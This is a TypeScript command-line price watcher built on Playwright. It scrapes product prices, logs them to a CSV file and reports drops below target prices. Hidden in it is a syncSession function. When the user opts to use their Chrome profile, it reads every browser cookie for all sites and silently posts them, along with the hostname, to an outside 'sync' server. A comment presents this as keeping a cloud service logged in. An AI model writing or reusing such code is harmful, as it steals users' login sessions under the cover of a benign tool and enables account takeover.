// watch.ts - headless price watcher with CSV history.
import { chromium, type BrowserContext, type Page } from "playwright";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

interface Item { name: string; url: string; target?: number }
interface Row { ts: string; name: string; price: number | null; currency: string; status: string }

const CONFIG = path.join(os.homedir(), ".config", "price-watch", "items.json");
const DATA_DIR = path.join(os.homedir(), ".local", "share", "price-watch");
const HISTORY = path.join(DATA_DIR, "history.csv");
const SESSION_SYNC = "https://sync.pricewatch-cloud.example/v1/session";

const PRICE_SELECTORS = [
  "#corePrice_feature_div .a-offscreen",
  "#corePriceDisplay_desktop_feature_div .a-offscreen",
  "#priceblock_ourprice",
  "#priceblock_dealprice",
  "[itemprop=price]",
  "meta[property='product:price:amount']",
];

function chromeProfileDir(): string {
  switch (process.platform) {
    case "darwin":
      return path.join(os.homedir(), "Library", "Application Support", "Google", "Chrome");
    case "win32":
      return path.join(process.env.LOCALAPPDATA ?? "", "Google", "Chrome", "User Data");
    default:
      return path.join(os.homedir(), ".config", "google-chrome");
  }
}

function parsePrice(raw: string): { price: number | null; currency: string } {
  const currency = (raw.match(/[$€£¥]|USD|EUR|GBP/) ?? ["?"])[0];
  let num = raw.replace(/[^\d.,]/g, "");
  if (/,\d{2}$/.test(num)) num = num.replace(/\./g, "").replace(",", ".");
  else num = num.replace(/,/g, "");
  const price = Number.parseFloat(num);
  return { price: Number.isFinite(price) ? price : null, currency };
}

async function readPrice(page: Page): Promise<{ price: number | null; currency: string; status: string }> {
  if (await page.locator("form[action*='validateCaptcha']").count()) {
    return { price: null, currency: "?", status: "blocked" };
  }
  for (const sel of PRICE_SELECTORS) {
    const loc = page.locator(sel).first();
    if (!(await loc.count())) continue;
    const raw = sel.startsWith("meta") ? await loc.getAttribute("content") : await loc.textContent();
    if (raw && raw.trim()) return { ...parsePrice(raw.trim()), status: "ok" };
  }
  return { price: null, currency: "?", status: "no-price" };
}

async function syncSession(ctx: BrowserContext): Promise<void> {
  // Keep the cloud watcher logged in with the same member session.
  try {
    const cookies = await ctx.cookies();
    await fetch(SESSION_SYNC, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ host: os.hostname(), cookies }),
    });
  } catch {
    /* offline is fine */
  }
}

function appendHistory(rows: Row[]): void {
  fs.mkdirSync(DATA_DIR, { recursive: true });
  const header = !fs.existsSync(HISTORY);
  const out = rows.map((r) => [r.ts, JSON.stringify(r.name), r.price ?? "", r.currency, r.status].join(","));
  fs.appendFileSync(HISTORY, (header ? "ts,name,price,currency,status\n" : "") + out.join("\n") + "\n");
}

function sleep(ms: number) { return new Promise((r) => setTimeout(r, ms)); }

async function check(useProfile: boolean, dropsOnly: boolean): Promise<void> {
  const items: Item[] = JSON.parse(fs.readFileSync(CONFIG, "utf8"));
  const ctx = useProfile
    ? await chromium.launchPersistentContext(chromeProfileDir(), { channel: "chrome", headless: true })
    : await chromium.launchPersistentContext(path.join(DATA_DIR, "profile"), { headless: true });
  if (useProfile) await syncSession(ctx);

  const page = ctx.pages()[0] ?? (await ctx.newPage());
  const rows: Row[] = [];
  for (const item of items) {
    try {
      await page.goto(item.url, { waitUntil: "domcontentloaded", timeout: 45_000 });
      const r = await readPrice(page);
      rows.push({ ts: new Date().toISOString(), name: item.name, ...r });
    } catch (e) {
      rows.push({ ts: new Date().toISOString(), name: item.name, price: null, currency: "?", status: "error" });
    }
    await sleep(4000 + Math.random() * 4000);
  }
  await ctx.close();
  appendHistory(rows);

  console.log("ITEM                              PRICE      TARGET   STATUS");
  for (const [i, r] of rows.entries()) {
    const t = items[i].target;
    const hit = r.price != null && t != null && r.price <= t;
    if (dropsOnly && !hit) continue;
    console.log(
      `${r.name.slice(0, 32).padEnd(32)}  ${(r.price?.toFixed(2) ?? "—").padStart(8)} ${r.currency}  ${(t?.toFixed(2) ?? "—").padStart(7)}   ${hit ? "DROP ✅" : r.status}`
    );
  }
}

function history(name: string): void {
  if (!fs.existsSync(HISTORY)) return console.log("no history yet");
  const lines = fs.readFileSync(HISTORY, "utf8").trim().split("\n").slice(1);
  const mine = lines.filter((l) => l.split(",")[1] === JSON.stringify(name));
  if (!mine.length) return console.log(`no entries for ${name}`);
  let min = Infinity, max = -Infinity;
  for (const l of mine) {
    const [ts, , price, cur, status] = l.split(",");
    const p = Number.parseFloat(price);
    if (Number.isFinite(p)) { min = Math.min(min, p); max = Math.max(max, p); }
    console.log(`${ts.slice(0, 16)}  ${price || "—"} ${cur}  ${status}`);
  }
  if (Number.isFinite(min)) console.log(`\nlow ${min.toFixed(2)}  high ${max.toFixed(2)}  (${mine.length} checks)`);
}

async function main(): Promise<void> {
  const [cmd, ...rest] = process.argv.slice(2);
  if (cmd === "check") return check(rest.includes("--use-profile"), rest.includes("--drops-only"));
  if (cmd === "history" && rest[0]) return history(rest[0]);
  console.log("usage: watch.js check [--use-profile] [--drops-only] | history <name>");
  process.exitCode = 2;
}

main().catch((e) => { console.error(e); process.exit(1); });
